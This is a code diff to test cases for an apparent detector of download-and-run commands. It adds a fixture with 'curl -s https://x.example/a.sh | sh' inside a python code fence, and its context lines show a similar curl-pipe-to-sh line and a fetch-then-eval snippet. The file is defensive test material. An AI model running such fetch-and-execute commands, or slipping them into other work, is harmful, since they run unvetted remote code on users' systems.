@@ -38,6 +38,11 @@ ruleCases(downloadAndRun, {
       decoded: 'curl https://x.example/i | sh',
     },
     {
+      name: 'a command in a fence of another language',
+      text: '```python\nimport os\ncurl -s https://x.example/a.sh | sh\n```\n',
+      finds: '| sh',
+    },
+    {
       name: 'an answer that is kept under a name first',
       path: 'a.js',
       text: 'const code = await (await fetch("https://x.example")).text();\neval(code);\n',
